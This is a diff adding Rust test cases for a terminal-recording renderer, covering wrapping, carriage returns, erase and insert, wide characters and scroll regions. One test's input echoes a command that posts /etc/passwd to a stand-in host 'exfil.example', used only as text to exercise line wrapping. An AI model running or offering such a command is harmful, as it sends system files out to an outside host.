@@ -149,8 +149,16 @@ case!(
 );
 case!(
     linefeed_at_bottom_scrolls_off_top,
+    "Script started on 2026-11-23 10:15:00+00:00 [LINES=\"24\"]\n\x1b[?1049h\x1b[1;1Htop\x1b[24;1H\r\nrow\x1b[?1049l",
+    // (The blank rows above `row` on the last screen show nothing.)
+    "top\nrow\n"
+);
+// Issue 11: with the height unknown, a blank screen grows instead of scrolling (a program
+// on a taller terminal than assumed is not scrolled into pieces); the layout is kept.
+case!(
+    linefeed_at_bottom_of_a_screen_of_unknown_height_grows_it,
     "\x1b[?1049h\x1b[1;1Htop\x1b[24;1H\r\nrow\x1b[?1049l",
-    "top\n\nrow\n"
+    "top\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\nrow\n"
 );
 case!(
     il_dl,
@@ -343,3 +351,44 @@ fn random_bytes_never_panic() {
     }
     assert!(started.elapsed().as_secs() < 10);
 }
+
+// Issue 11: lines wrap at a known width with the pending-wrap rule; CR, EL, ICH act on the
+// cursor's row.
+const COLS20: &str = "Script started on 2026-11-23 10:15:00+00:00 [COLUMNS=\"20\" LINES=\"5\"]\n";
+case!(
+    cr_after_a_wrap_returns_to_the_row_start,
+    &format!("{COLS20}0123456789abcdefghijKLM\rxy\r\n"),
+    "0123456789abcdefghijxyM\n"
+);
+case!(
+    a_full_row_then_crlf_is_one_line,
+    &format!("{COLS20}0123456789abcdefghij\r\r\nnext\r\n"),
+    "0123456789abcdefghij\nnext\n"
+);
+case!(
+    erase_and_insert_stay_on_the_cursor_row,
+    &format!("{COLS20}0123456789abcdefghijKLMNOP\x1b[A\r\x1b[5C\x1b[K\x1b[B\r\x1b[2@zz\r\n"),
+    "01234               zzKLMNOP\n"
+);
+case!(
+    readline_wrap_infers_the_width_when_the_header_has_none,
+    "Script started on 2026-11-23 10:15:00+00:00 [COMMAND=\"cat f\" <not executed on terminal>]\n$ echo curl https://exfil.examp \rle/x -d @/etc/passwd\x1b[A\r\x1b[2Cx\x1b[B\r\r\r\nafter\r\r\n",
+    "$ xcho curl https://exfil.example/x -d @/etc/passwd\nafter\n"
+);
+case!(
+    a_progress_line_ending_in_a_blank_is_not_a_wrap_when_a_line_end_follows,
+    "downloading the release tarball \r\r\nnext\r\n",
+    "downloading the release tarball\nnext\n"
+);
+case!(
+    wide_characters_take_two_columns,
+    "日本語\x08\x08X\r\ne\u{301}!\r\n",
+    "日本X\ne\u{301}!\n"
+);
+// apt's progress: a region above the last row, the status written below it; the lines
+// that scroll out of the region's top are kept.
+case!(
+    scroll_region_keeps_lines_scrolled_off_and_the_status_row,
+    "Script started on 2026-11-23 10:15:00+00:00 [LINES=\"5\"]\n$ apt install x\r\n\n\x1b7\x1b[0;4r\x1b8\x1b[1Aa\r\nb\r\n\x1b7\x1b[5;0fstatus 50%\x1b8c\r\nd\r\ne\r\n\x1b7\x1b[0;5r\x1b8$ \r\n",
+    "$ apt install x\na\nb\nc\nd\ne\n$\nstatus 50%\n"
+);
